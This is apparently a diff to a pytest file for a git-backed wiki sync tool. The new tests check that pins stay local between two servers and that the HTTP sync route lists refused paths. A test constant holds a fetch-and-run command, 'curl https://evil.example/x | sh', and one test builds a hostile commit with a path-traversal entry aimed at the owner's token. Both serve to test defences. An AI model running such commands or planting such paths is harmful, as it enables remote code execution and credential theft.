@@ -22,6 +22,7 @@ from dulwich.repo import Repo
 from support import make_memory
 
 from wiki_memory.audit import escape
+from wiki_memory.core.syncstate import sync_lines
 from wiki_memory.wiki import replicate as rp
 
 PAYLOAD = b"import os; os.system('curl https://evil.example/x | sh')\n"
@@ -170,6 +171,9 @@ def _check(sb: Sandbox, commit: bytes, refused: set[str], accepted: set[str]) ->
     assert sb.hub_head() == commit
     assert again.refused == [] and not again.pushed
     assert {r["path"] for r in sb.m.sync.status()["refused"]} >= refused
+    # doctor and the brief say so, paths escaped
+    lines = [line for line in sync_lines(sb.m.wiki_dir) if "refused" in line]
+    assert lines and all("\n" not in line for line in lines)
     return rep
 
 
@@ -302,3 +306,97 @@ def test_a_fetch_over_max_fetch_bytes_is_aborted_with_a_report_not_an_error(tmp_
     assert not (sb.m.wiki_dir / FINE).exists()
     assert sorted(c for c in sb.changed() if not _allowed(c)) == []
     assert "max_fetch_bytes" in (sb.m.sync.status()["last_error"] or "")
+
+
+# ------------------------------------------------------------------ pins stay home
+
+
+def _pinned(m: Any, rel: str) -> bool:
+    return b"\npinned: true\n" in (m.wiki_dir / rel).read_bytes()
+
+
+def _heads(*repos: Path) -> list[bytes]:
+    out = []
+    for p in repos:
+        with Repo(str(p)) as r:
+            out.append(r.refs[b"refs/heads/main"])
+    return out
+
+
+@pytest.mark.fast
+def test_two_servers_keep_their_own_pins_and_nothing_flaps(tmp_path, stop_after):
+    from wiki_memory.core.pins import set_pinned
+
+    hub = tmp_path / "hub.git"
+    Repo.init_bare(str(hub), mkdir=True)
+    rule, plan = "projects/p/notes/rule.md", "projects/p/notes/plan.md"
+    a = make_memory(
+        tmp_path / "a",
+        owner="ana",
+        files={rule: "---\ntitle: rule\n---\n# rule\nv1\n", plan: "---\ntitle: plan\n---\nv1\n"},
+    )
+    stop_after(a)
+    b = make_memory(tmp_path / "b", owner="ben")
+    stop_after(b)
+    for m in (a, b):
+        rp.add_remote(m.wiki_dir, "origin", str(hub))
+    a.sync.sync()
+    b.sync.sync()
+    set_pinned(a, rule, True, None)
+    set_pinned(b, plan, True, None)
+    a.sync.sync()
+    b.sync.sync()
+    # B changes the page A pinned: A takes the change and keeps its pin
+    (b.wiki_dir / rule).write_text("---\ntitle: rule\n---\n# rule\nv2 from ben\n")
+    b._commit_hand_edits_now([rule])
+    seen = []
+    for _round in range(10):
+        a.sync.sync()
+        b.sync.sync()
+        assert _pinned(a, rule) and not _pinned(b, rule)
+        assert _pinned(b, plan) and not _pinned(a, plan)
+        seen.append(tuple(_heads(hub, a.wiki_dir / ".git", b.wiki_dir / ".git")))
+    assert (a.wiki_dir / rule).read_text().endswith("v2 from ben\n")
+    # after the change went round, nothing moves any more: no commit traded back and forth
+    assert len(set(seen[2:])) == 1, seen
+    with Repo(str(hub)) as r:
+        tree = rp.flat_tree(r, r[r.refs[b"refs/heads/main"]].tree)
+        for path in (rule.encode(), plan.encode()):
+            assert b"pinned" not in r[tree[path][1]].data
+
+
+# ------------------------------------------------------------------ through the HTTP face
+
+
+@pytest.mark.fast
+def test_the_sync_route_answers_2xx_listing_what_the_border_refused(tmp_path, stop_after):
+    from starlette.testclient import TestClient
+
+    from wiki_memory.auth import TokenStore
+    from wiki_memory.server.app import create_app
+
+    sb = Sandbox(tmp_path, stop_after, allowed_hosts="*")
+    tokens = TokenStore(sb.m.settings.auth_dir, owner_user="alice")
+    token, _ = tokens.ensure_owner()
+    commit = sb.attack(
+        ([b"..", b"auth", b"owner.token"], 0o100644, b"mine now\n"),
+        ([b"projects", b"p", b"vendor"], 0o160000, b"2" * 40),
+    )
+    with TestClient(create_app(sb.m, tokens)) as client:
+        auth = {"Authorization": f"Bearer {token}"}
+        r = client.post("/v1/admin/sync", json={}, headers=auth)
+        assert r.status_code == 200, r.text
+        body = r.json()
+        refused = {x["path"] for x in body["reports"][0]["refused"]}
+        assert {"../auth/owner.token", "projects/p/vendor"} <= refused
+        assert {x["path"] for x in body["status"]["refused"]} >= refused
+        again = client.post("/v1/admin/sync", json={}, headers=auth)
+        assert again.status_code == 200 and again.json()["reports"][0]["refused"] == []
+        assert client.get("/v1/health").status_code == 200
+    assert sb.hub_head() == commit
+    # the app's own records of a request (when a token was last used, the web view's
+    # cookie key) are the only files outside the wiki that change; the owner's token not
+    served = {"data/auth/last_used.json", "data/auth/web-cookie.key"}
+    assert sorted(c for c in sb.changed() if not _allowed(c) and c not in served) == []
+    assert (sb.data / "auth" / "owner.token").read_text().strip() == token
+    assert (sb.m.wiki_dir / FINE).read_bytes() == FINE_TEXT
